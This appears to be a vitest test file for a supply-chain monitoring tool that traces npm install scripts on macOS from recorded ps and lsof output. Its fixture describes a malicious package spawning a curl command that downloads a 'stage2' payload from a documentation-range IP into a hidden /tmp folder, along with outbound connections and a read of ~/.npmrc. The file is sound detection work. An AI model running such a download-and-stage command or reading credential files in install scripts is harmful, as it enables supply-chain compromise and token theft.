// The macOS backend driven by recorded-format ps/lsof output through the real
// tracker: can't run on a Mac here, so this is how far it is tested.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { GuardedEvent } from '../../../src/events/types.js';
import { DarwinSource } from '../../../src/tracers/proc/darwin.js';
import { ProcessTracker } from '../../../src/tracers/proc/tracker.js';
import { fakeScript, ofKind } from './helpers.js';

const FIXTURES = fileURLToPath(new URL('../../fixtures/proc/', import.meta.url));
const fixture = (name: string): string => readFileSync(`${FIXTURES}${name}`, 'utf8');

describe('DarwinSource (ps + lsof) under the tracker', () => {
  const calls: string[][] = [];
  const source = new DarwinSource((file, args) => {
    calls.push([file, ...args]);
    return file === 'ps' ? fixture('ps.darwin.txt') : fixture('lsof.darwin.txt');
  });
  const events: GuardedEvent[] = [];
  const script = fakeScript('5020', 5020, '/Users/dev/proj/node_modules/evil');
  const tracker = new ProcessTracker(source, {
    runDir: '/tmp/run',
    npmPid: 5012,
    scriptById: () => undefined,
    scriptByRootPid: (pid) => (pid === 5020 ? script : undefined),
    emit: (e) => events.push(e),
    now: () => new Date(2026, 10, 23, 9, 14, 8).getTime(),
  });
  tracker.poll();

  it('runs one ps and one lsof for the live attributed pids', () => {
    expect(calls[0]).toEqual(['ps', '-A', '-o', 'pid=,ppid=,lstart=,command=']);
    expect(calls[1]).toEqual(['lsof', '-nP', '-w', '-F', 'pcfatPnTdi', '-p', '5021,5022,5030']);
    expect(calls).toHaveLength(2);
  });

  it("reports the script's tree from the ps listing", () => {
    const starts = ofKind(events, 'process-start');
    expect(starts.map((e) => e.process.pid)).toEqual([5021, 5022, 5030, 5033]);
    expect(starts.find((e) => e.process.pid === 5030)?.process).toMatchObject({ name: 'curl', args: ['curl', '-s', 'https://203.0.113.45/x', '-o', '/tmp/.x/stage2'], parent: { pid: 5022 } });
    expect(starts.find((e) => e.process.pid === 5030)?.npm.ancestry).toEqual([5022, 5021, 5020]);
    // no environment on macOS: the reparented stage2 stays unattributed
    expect(starts.some((e) => e.process.pid === 5031)).toBe(false);
    expect(ofKind(events, 'process-end').map((e) => e.process.pid)).toEqual([5033]);
  });

  it('reports connections out (not listeners, not accepted ones) and open credential files', () => {
    const conns = ofKind(events, 'network-connect').map((e) => [e.process.pid, e.destination.ip, e.destination.port, e.network.transport, e.syscall.result]);
    expect(conns).toEqual([
      [5022, '203.0.113.45', 443, 'tcp', 'ESTABLISHED'],
      [5022, '2001:db8::1', 8443, 'tcp', 'SYN_SENT'],
      [5030, '8.8.8.8', 53, 'udp', 'ESTABLISHED'],
    ]);
    expect(ofKind(events, 'sensitive-read').map((e) => e.file.path)).toEqual(['/Users/dev/.npmrc']);
  });
});
